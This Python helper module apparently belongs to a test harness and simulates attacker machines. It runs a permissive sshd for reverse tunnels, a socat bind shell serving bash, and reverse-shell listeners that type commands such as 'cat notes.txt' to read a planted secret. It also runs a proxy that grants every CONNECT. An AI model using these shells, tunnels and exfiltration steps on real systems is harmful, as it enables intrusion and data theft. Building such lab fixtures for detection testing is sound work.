# SPDX-License-Identifier: Apache-2.0
"""What an attacker's machines run: an sshd for tunnels, listeners for shells, and hands that type. Each belongs to one
case, has the case's own address, and ends with it."""

import os
import random
import shutil
import subprocess
import time

import lib_net as net

INNER, INNER_SHELL = "10.20.0.11", "10.20.0.12"  # a web server and a machine to log in to, of the internal network


def start(c, argv, place="far", **more):
    """A program of the attacker's, to the case's end."""
    if not shutil.which(argv[0]):
        raise_skip(argv[0])
    process = net.popen(place, argv, **more)
    c.ends.callback(net.stop, process)
    return process


def raise_skip(program):
    from lib_case import Skipped

    raise Skipped("%s is not installed" % program)


def serve(c, port, handle, tls=None, place="far", address=None):
    listener = net.serve(place, address or c.far, port, handle, tls)
    c.ends.callback(listener.close)
    return listener


def sshd(c, port=22):
    """Lets anyone in, as the sshd of the world does. Its log is sshd.log beside the workspace."""
    with open(os.environ["WORLD"] + "/sshd_config") as file:
        lines = [line for line in file if not line.startswith(("Port", "LogLevel", "GatewayPorts"))]
    config, log = c.base + "/sshd_config", c.base + "/sshd.log"
    with open(config, "w") as file:
        file.write("".join(lines) + "ListenAddress %s:%d\nLogLevel DEBUG1\nGatewayPorts clientspecified\n" % (c.far, port))
    start(c, [shutil.which("sshd") or "/usr/sbin/sshd", "-D", "-f", config, "-E", log])
    net.connect("far", c.far, port).close()
    return log


def forwarded(c, port=8000):
    """Waits until the sshd listens for someone's -R, without a connection that would go through it."""
    c.wait_for(lambda: "listening on %s port %d" % (c.far, port) in open(c.base + "/sshd.log").read(), 20, "ssh -R")
    return c.far, port


def ssh_key(c):
    """A key in the workspace that only its owner reads, or ssh will not take it."""
    key = c.base + "/id"
    if not os.path.exists(key):
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "", "-f", key], check=True)
    with open(key) as file:
        c.file("key", file.read(), 0o600)
    os.chown(c.dir + "/key", os.stat(c.dir).st_uid, os.stat(c.dir).st_gid)


def ssh_config(c, *lines, port=22):
    """Host x of the file `config` is the attacker's sshd; all that tells of a tunnel stands in there."""
    ssh_key(c)
    head = """\
Host x
HostName %s
Port %d
User root
IdentityFile /work/key
IdentitiesOnly yes
BatchMode yes
StrictHostKeyChecking no
UserKnownHostsFile /dev/null
LogLevel ERROR
ExitOnForwardFailure yes
""" % (c.far, port)
    c.file("config", head + "\n".join(lines) + "\n")


def shell_server(c, port):
    """A machine of the internal network where whoever comes gets a shell on a terminal."""
    start(c, ["socat", "TCP-LISTEN:%d,bind=%s,reuseaddr,fork" % (port, INNER_SHELL),
              "EXEC:bash --norc --noprofile -i,pty,stderr,setsid,ctty"], place="inside", cwd="/")


def type_commands(s, commands, slow=True, newline=b"\n"):
    """A person at a terminal: keys one by one where slow; what came of each is read before the next. Returns it all."""
    seen = b""
    for i, command in enumerate(commands):
        end = b"end-%d-%d" % (i, 6 * 7)
        line = command.encode() + b"; echo end-%d-$((6*7))" % i
        if slow:
            for key in line:
                s.sendall(bytes([key]))
                time.sleep(random.uniform(0.02, 0.12))
        else:
            s.sendall(line)
        s.sendall(newline)
        seen += net.read_until(s, end)
        time.sleep(random.uniform(0.4, 0.9))
    return seen


def secret(c):
    """A file of the workspace that only someone who reads it there can know."""
    word = "secret-%08x" % random.getrandbits(32)
    c.file("notes.txt", word + "\n")
    return word.encode()


def shell_listener(c, port, tls=None, commands=("id", "pwd", "cat notes.txt"), slow=False, rest=1.0):
    """Waits for a shell to come, drives it, and returns what was read of it."""
    listener = net.listen("far", c.far, port)
    c.ends.callback(listener.close)

    def drive():
        listener.settimeout(15)
        s = listener.accept()[0]
        c.mark()
        s = tls.wrap_socket(s, server_side=True) if tls else s
        with s:
            time.sleep(rest)
            return type_commands(s, commands, slow)

    return drive


def proxy(c, port):
    """An HTTP proxy that grants every CONNECT. Returns whom it was asked for."""
    asked = []

    def handle(s):
        head = net.read_until(s, b"\r\n\r\n")
        host, _, to = head.split()[1].decode().rpartition(":")
        asked.append((host, int(to)))
        with net.connect("far", c.far if host == c.far_name else host, int(to)) as other:
            s.sendall(b"HTTP/1.1 200 Connection established\r\n\r\n")
            s.settimeout(None)
            other.settimeout(None)
            net.relay(s, other)

    serve(c, port, handle)
    return asked
